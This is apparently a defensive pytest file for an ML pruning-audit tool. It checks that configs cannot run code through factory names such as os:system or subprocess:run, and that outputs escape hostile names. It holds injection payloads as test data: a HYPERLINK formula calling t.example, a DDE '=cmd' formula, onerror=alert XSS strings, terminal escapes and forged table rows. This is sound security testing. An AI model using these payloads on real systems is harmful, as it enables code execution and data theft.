"""A config, a data file or a results.json from someone else must not run code, nor inject markup or formulas.

Factories: a module beside the config, or an installed package the person running the command names
with --trust-factory; never the standard library or pruneaudit, and decided before anything is imported.
Names: per_class.csv never starts a formula, JUnit XML always parses, the step summary, card.md and the
terminal table show literal text with one row per row.
"""

from __future__ import annotations

import csv
import io
import json
import os
import sys
import uuid
import xml.etree.ElementTree as ET
from pathlib import Path

import pandas as pd
import pytest
import torch

from pruneaudit.escape import FORMULA_START, markdown_escape, plain_text, spreadsheet_text, xml_text
from pruneaudit.gate import Check, junit_xml, markdown, table
from tests.conftest import SAMPLES
from tests.hostile.conftest import assert_user_error, invoke, tree_digest

DENSE = SAMPLES / "torchscript" / "dense.pt"
PRUNED = SAMPLES / "torchscript" / "global-90.pt"
MAKE = "import torch\n\n\ndef make():\n    return torch.nn.Sequential(torch.nn.Flatten(), torch.nn.Linear(784, 10))\n"


# ---------------------------------------------------------------------------------------------- factories


@pytest.fixture
def module_name():
    """Fresh module names (this process caches imports by name), forgotten after the test."""
    names: list[str] = []

    def make() -> str:
        names.append(f"m_{uuid.uuid4().hex[:12]}")
        return names[-1]

    yield make
    for key in [k for k in sys.modules if k.split(".")[0] in names]:
        del sys.modules[key]


def _state_dict(path: Path) -> Path:
    torch.save(torch.nn.Sequential(torch.nn.Flatten(), torch.nn.Linear(784, 10)).state_dict(), path)
    return path


def _module(path: Path, marker: Path | None = None, body: str = MAKE) -> Path:
    """A factory module; with ``marker``, importing it creates that file (proof that its code ran)."""
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text((f"open({str(marker)!r}, 'w').close()\n" if marker else "") + body)
    return path


def _config(folder: Path, data: Path, *, pruned: dict, dense: dict | None = None) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    cfg = {
        "data": {"path": str(data)},
        "dense": {"name": "dense", **(dense or {"path": str(DENSE)})},
        "pruned": [{"name": "pruned", **pruned}],
    }
    path = folder / "audit.yaml"
    path.write_text(json.dumps(cfg))
    return path


def _old_report(tmp_path: Path) -> tuple[Path, str]:
    out = tmp_path / "report"
    out.mkdir()
    (out / "index.html").write_text("previous report")
    return out, tree_digest(out)


def _audit(config: Path, out: Path, *flags: str):
    return invoke(["audit", "--quiet", "--config", config, "--out", out, *flags])


def test_os_system_factory_is_refused_and_never_runs(tmp_path, test_npz):
    marker = tmp_path / "MARKER"
    model = _state_dict(tmp_path / "pruned.pt")
    kwargs = {"command": f"touch {marker}"}
    config = _config(tmp_path, test_npz, pruned={"path": str(model), "factory": "os:system", "factory_kwargs": kwargs})
    out, before = _old_report(tmp_path)
    line = assert_user_error(_audit(config, out), names=model, says="--trust-factory PACKAGE")
    assert "'os:system'" in line and "standard library" in line
    assert not marker.exists() and tree_digest(out) == before


ATTACKS = (
    "builtins:eval",
    "builtins:exec",
    "subprocess:run",
    "subprocess:Popen",
    "importlib:import_module",
    "runpy:run_path",
    "shutil:rmtree",
    "os.path:exists",
    "pruneaudit.cli:main",
)


def _stdlib_attacks(tmp_path: Path, marker: Path) -> dict[str, dict]:
    """factory_kwargs that would create ``marker`` (or delete a folder) if the factory were called."""
    script = tmp_path / "lib" / "evil_script.py"
    script.parent.mkdir()
    script.write_text(f"open({str(marker)!r}, 'w').close()\n")
    victim = tmp_path / "victim"
    victim.mkdir()
    return {
        "builtins:eval": {"source": f"open({str(marker)!r}, 'w')"},
        "builtins:exec": {"source": f"open({str(marker)!r}, 'w')"},
        "subprocess:run": {"args": ["touch", str(marker)]},
        "subprocess:Popen": {"args": ["touch", str(marker)]},
        "importlib:import_module": {"name": "evil_script"},
        "runpy:run_path": {"path_name": str(script)},
        "shutil:rmtree": {"path": str(victim)},
        "os.path:exists": {"path": str(victim)},
        "pruneaudit.cli:main": {},
    }


@pytest.mark.parametrize("factory", ATTACKS)
def test_stdlib_and_pruneaudit_factories_are_refused_even_when_trusted(tmp_path, test_npz, monkeypatch, factory):
    marker = tmp_path / "MARKER"
    kwargs = _stdlib_attacks(tmp_path, marker)[factory]
    monkeypatch.syspath_prepend(str(tmp_path / "lib"))  # import_module would find evil_script there
    model = _state_dict(tmp_path / "pruned.pt")
    config = _config(tmp_path, test_npz, pruned={"path": str(model), "factory": factory, "factory_kwargs": kwargs})
    out, before = _old_report(tmp_path)
    top = factory.partition(".")[0].partition(":")[0]
    outcome = _audit(config, out, "--trust-factory", top)
    assert_user_error(outcome, names=model, says="not even with --trust-factory")
    assert not marker.exists() and (tmp_path / "victim").is_dir() and tree_digest(out) == before


def test_every_factory_is_checked_before_any_model_loads(tmp_path, test_npz, module_name):
    """The dense model's factory is allowed but would run first: the pruned one's refusal comes before it."""
    marker = tmp_path / "IMPORTED"
    name = module_name()
    _module(tmp_path / f"{name}.py", marker)
    dense = _state_dict(tmp_path / "dense.pt")
    pruned = _state_dict(tmp_path / "pruned.pt")
    config = _config(
        tmp_path,
        test_npz,
        dense={"path": str(dense), "factory": f"{name}:make"},
        pruned={"path": str(pruned), "factory": "subprocess:run", "factory_kwargs": {"args": ["touch", str(marker)]}},
    )
    out, before = _old_report(tmp_path)
    assert_user_error(_audit(config, out), names=pruned, says="'subprocess:run'")
    assert not marker.exists() and tree_digest(out) == before


@pytest.mark.parametrize("layout", ["module", "package"])
def test_a_factory_beside_the_config_is_allowed(tmp_path, test_npz, module_name, layout):
    name = module_name()
    if layout == "module":
        _module(tmp_path / f"{name}.py")
        factory = f"{name}:make"
    else:
        _module(tmp_path / name / "__init__.py", body="")
        _module(tmp_path / name / "nets.py")
        factory = f"{name}.nets:make"
    model = _state_dict(tmp_path / "pruned.pt")
    config = _config(tmp_path, test_npz, pruned={"path": str(model), "factory": factory})
    outcome = _audit(config, tmp_path / "report")
    assert outcome.exit_code == 0, outcome.stderr
    saved = json.loads((tmp_path / "report" / "results.json").read_text())
    assert saved["models"][1]["backend"] == "state_dict"


def _installed(site: Path, name: str, marker: Path) -> None:
    _module(site / name / "__init__.py", marker)


def test_an_installed_package_needs_trust_factory(tmp_path, test_npz, module_name, monkeypatch):
    marker = tmp_path / "IMPORTED"
    name = module_name()
    _installed(tmp_path / "site", name, marker)
    monkeypatch.syspath_prepend(str(tmp_path / "site"))
    model = _state_dict(tmp_path / "pruned.pt")
    config = _config(tmp_path / "cfg", test_npz, pruned={"path": str(model), "factory": f"{name}:make"})
    out, before = _old_report(tmp_path)
    line = assert_user_error(_audit(config, out), names=model, says=f"--trust-factory {name}")
    assert str(tmp_path / "site" / name) in line  # where it comes from
    assert not marker.exists() and tree_digest(out) == before
    outcome = _audit(config, out, "--trust-factory", name)
    assert outcome.exit_code == 0, outcome.stderr
    assert marker.exists()  # now its code ran, as the person running the command allowed


def test_a_virtual_environment_below_the_config_is_not_beside_it(tmp_path, test_npz, module_name, monkeypatch):
    marker = tmp_path / "IMPORTED"
    name = module_name()
    site = tmp_path / "cfg" / ".venv" / "lib" / "site-packages"
    _installed(site, name, marker)
    monkeypatch.syspath_prepend(str(site))
    model = _state_dict(tmp_path / "pruned.pt")
    config = _config(tmp_path / "cfg", test_npz, pruned={"path": str(model), "factory": f"{name}:make"})
    out, before = _old_report(tmp_path)
    assert_user_error(_audit(config, out), names=model, says=f"--trust-factory {name}")
    assert not marker.exists() and tree_digest(out) == before


def test_a_symlink_beside_the_config_counts_where_it_points(tmp_path, test_npz, module_name):
    marker = tmp_path / "MARKER"
    name = module_name()
    (tmp_path / f"{name}.py").symlink_to(os.__file__)  # the standard library's os.py under another name
    model = _state_dict(tmp_path / "pruned.pt")
    kwargs = {"command": f"touch {marker}"}
    config = _config(
        tmp_path, test_npz, pruned={"path": str(model), "factory": f"{name}:system", "factory_kwargs": kwargs}
    )
    out, before = _old_report(tmp_path)
    line = assert_user_error(_audit(config, out), names=model, says=f"--trust-factory {name}")
    assert str(Path(os.__file__).resolve()) in line
    # trusting the name still does not reach os.system: where the callable is defined is checked too
    assert_user_error(_audit(config, out, "--trust-factory", name), names=model, says="'posix'")
    assert not marker.exists() and tree_digest(out) == before


@pytest.mark.parametrize(("attribute", "says"), [("os.system", "'posix'"), ("torch.hub.load", "--trust-factory torch")])
def test_an_allowed_module_cannot_reach_through_to_what_it_imports(tmp_path, test_npz, module_name, attribute, says):
    marker = tmp_path / "MARKER"
    name = module_name()
    _module(tmp_path / f"{name}.py", body="import os\n\n" + MAKE)
    model = _state_dict(tmp_path / "pruned.pt")
    kwargs = (
        {"command": f"touch {marker}"} if attribute == "os.system" else {"repo_or_dir": str(tmp_path), "model": "x"}
    )
    factory = f"{name}:{attribute}"
    config = _config(tmp_path, test_npz, pruned={"path": str(model), "factory": factory, "factory_kwargs": kwargs})
    out, before = _old_report(tmp_path)
    assert_user_error(_audit(config, out), names=model, says=says)
    assert not marker.exists() and tree_digest(out) == before


@pytest.mark.parametrize(
    ("factory", "says"),
    [
        ("json:make", "standard library"),  # a stdlib name is refused even when a json.py sits beside the config
        (".relative:make", "dotted Python names"),
        ("no_such_module_here:make", "no module 'no_such_module_here' beside the config"),
    ],
)
def test_factory_names_that_are_refused_by_name(tmp_path, test_npz, factory, says):
    _module(tmp_path / "json.py")
    model = _state_dict(tmp_path / "pruned.pt")
    config = _config(tmp_path, test_npz, pruned={"path": str(model), "factory": factory})
    out, before = _old_report(tmp_path)
    assert_user_error(_audit(config, out), names=model, says=says)
    assert tree_digest(out) == before


# ------------------------------------------------------------------------------------------------- names

CLASSES = (
    '=HYPERLINK("https://t.example/?"&A1,"open")',
    "+SUM(1,1)",
    "-2+3",
    "@SUM(A1)",
    "\tTAB",
    "\rCR",
    "<img src=x onerror=alert(1)>",
    "![px](https://t.example/p.png)",
    'pipe|cell]]>&"q"',
    "-0.01",
)
DENSE_NAME = "=cmd|' /C calc'!A0"
PRUNED_NAME = "<img src=x onerror=alert(1)>![t](https://t.example/p.png)|x\r\x1b[2K| forged | row |"
CONTROLS = "".join(map(chr, range(0x20))) + "\x7f\x85\u2028\u2029"


@pytest.fixture(scope="module")
def hostile(tmp_path_factory, test_npz) -> Path:
    """An audit whose class and model names are hostile, from the config and data (not a doctored results.json)."""
    root = tmp_path_factory.mktemp("hostile")
    cfg = {
        "data": {"path": str(test_npz), "class_names": list(CLASSES)},
        "dense": {"name": DENSE_NAME, "path": str(DENSE)},
        "pruned": [{"name": PRUNED_NAME, "path": str(PRUNED)}],
    }
    (root / "audit.yaml").write_text(json.dumps(cfg))
    outcome = invoke(["audit", "--quiet", "--config", root / "audit.yaml", "--out", root / "out"])
    assert outcome.exit_code == 0, outcome.stderr
    return root / "out"


def _unescaped(text: str, char: str) -> int:
    """How many times ``char`` occurs not made literal by a backslash (an odd run of them before it)."""
    count, backslashes = 0, 0
    for c in text:
        if c == char and backslashes % 2 == 0:
            count += 1
        backslashes = backslashes + 1 if c == "\\" else 0
    return count


def test_per_class_csv_never_starts_a_formula(hostile):
    rows = list(csv.DictReader(io.StringIO((hostile / "per_class.csv").read_bytes().decode(), newline="")))
    assert len(rows) == 2 * len(CLASSES)  # no row split by a carriage return in a name
    for row in rows:
        for key in ("model", "class"):
            assert not row[key].startswith(FORMULA_START), row[key]
            assert row[key].removeprefix("'") in (*CLASSES, DENSE_NAME, PRUNED_NAME)
    assert [r["class"] for r in rows[: len(CLASSES)]] == [spreadsheet_text(c) for c in CLASSES]
    changes = [r["recall_change"] for r in rows if r["recall_change"]]
    assert any(c.startswith("-") for c in changes) and [float(c) for c in changes]  # numbers stay numbers


def test_per_class_parquet_keeps_the_names_and_the_types(hostile):
    parquet = pd.read_parquet(io.BytesIO((hostile / "per_class.parquet").read_bytes()))
    assert list(parquet["class"]) == list(CLASSES) * 2  # no leading ' in the typed table
    assert list(parquet["model"].unique()) == [DENSE_NAME, PRUNED_NAME]
    assert parquet["support"].dtype == "int64" and parquet["recall_change"].dtype == "float64"
    rows = list(csv.DictReader(io.StringIO((hostile / "per_class.csv").read_bytes().decode(), newline="")))
    recall = [float(r["recall"] or "nan") for r in rows]
    assert list(parquet["recall"]) == pytest.approx(recall, nan_ok=True)


def _assert_literal_markdown(text: str) -> None:
    """No raw HTML, link or image syntax, and no control character but the line ends."""
    for char in "<>[]!&":
        assert _unescaped(text, char) == 0, (char, [line for line in text.splitlines() if char in line][:3])
    assert not set(text) & set(CONTROLS.replace("\n", "")), "control character in Markdown"


def _table_rows_keep_their_cells(text: str) -> int:
    """Every table row has as many cell separators as its header; returns how many rows there were."""
    n, width = 0, None
    for line in text.splitlines():
        if not line.startswith("|"):
            width = None
            continue
        pipes = _unescaped(line, "|")
        width = width or pipes
        assert pipes == width, line
        n += 1
    return n


def test_card_md_shows_names_as_literal_text(hostile, tmp_path):
    body = (hostile / "card.md").read_text().split("---\n", 2)[2]  # the YAML front matter quotes by itself
    _assert_literal_markdown(body)
    _table_rows_keep_their_cells(body)
    assert markdown_escape(PRUNED_NAME) in body
    # render of the saved results.json gives the same escaped files
    assert invoke(["render", hostile / "results.json", "--out", tmp_path / "again"]).exit_code == 0
    for name in ("card.md", "per_class.csv", "per_class.parquet"):
        assert (tmp_path / "again" / name).read_bytes() == (hostile / name).read_bytes(), name


def test_check_outputs_from_hostile_names(hostile, tmp_path):
    summary, junit = tmp_path / "summary.md", tmp_path / "gate.xml"
    outcome = invoke(
        ["check", hostile / "results.json", "--max-accuracy-drop", "-1", "--junit", junit],
        env={"GITHUB_STEP_SUMMARY": str(summary)},
    )
    assert outcome.exit_code == 1, outcome.stderr
    text = summary.read_text(encoding="utf-8")
    _assert_literal_markdown(text.replace("✅", "").replace("❌", ""))
    assert _table_rows_keep_their_cells(text) == 2 + 1  # header, rule line, one check
    case = ET.parse(junit).getroot().find("testsuite/testcase")
    assert case.get("name") == xml_text(PRUNED_NAME)  # in an attribute, ElementTree keeps \r as &#13;
    assert "\r" not in outcome.stdout and "\x1b" not in outcome.stdout


def test_junit_is_well_formed_whatever_the_names():
    evil = CONTROLS + "\x00\ud800\udfff\ufffe\uffff]]>\"'<&\u2028 end"
    checks = [Check(evil, evil, None, False, evil), Check(evil, evil, 1.0, True, evil)]
    root = ET.fromstring(junit_xml(checks).encode("utf-8"))  # encodable (no lone surrogate) and parses
    expected = xml_text(evil)
    assert "\ufffd" in expected and "]]>\"'<&" in expected and all(c in expected for c in "\t\n\r")
    failed, passed = root.findall("testsuite/testcase")
    assert failed.get("name") == passed.get("name") == expected
    assert failed.get("classname") == expected.replace(".", "\u2024")  # no dots: Jenkins splits at the last one
    assert failed.find("failure").get("message") == expected
    assert passed.find("system-out").text == expected.replace("\r", "\n")  # XML normalises a text's line ends


def test_step_summary_rows_stay_rows():
    checks = [
        Check("a\rb|c\n| forged | row |", "<img src=x onerror=alert(1)>", 0.5, False, "![x](https://t.example/p.png)"),
        Check("`code` *em* _u_ ~~s~~ $x$ #1 \\", CONTROLS + "\ud800", None, True, "[l](javascript:alert(1))"),
    ]
    text = markdown(checks)
    _assert_literal_markdown(text.replace("✅", "").replace("❌", ""))
    assert _table_rows_keep_their_cells(text) == 2 + len(checks)
    assert len(text.splitlines()) == 4 + len(checks)
    text.encode("utf-8")  # a lone surrogate would make appending to $GITHUB_STEP_SUMMARY crash


def test_terminal_table_cannot_forge_a_verdict():
    text = table([Check("rule", "m\r\x1b[2KPASS  rule  m", 0.5, False, "detail\x1b]8;;https://t.example\x07x")])
    assert "\r" not in text and "\x1b" not in text and "\x07" not in text
    assert plain_text("a\x00b\u2028c\ud800") == "a b c\ufffd"


def test_spreadsheet_text_follows_owasp():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert spreadsheet_text(start + "1") == "'" + start + "1"
    assert spreadsheet_text("") == "" and spreadsheet_text("plain -1") == "plain -1"


def test_progress_lines_carry_no_control_characters(hostile, tmp_path):
    """Without --quiet the progress names each model on stderr: a hostile name cannot move the cursor or start a
    line of its own (a forged GitHub workflow command)."""
    outcome = invoke(["audit", "--config", hostile.parent / "audit.yaml", "--out", tmp_path / "out", "--no-cache"])
    assert outcome.exit_code == 0, outcome.stderr
    assert "forged" in outcome.stderr  # the name is there, made plain
    assert "\x1b" not in outcome.stderr and "\r" not in outcome.stderr
    assert not [line for line in outcome.stderr.splitlines() if line.lstrip().startswith("::")]
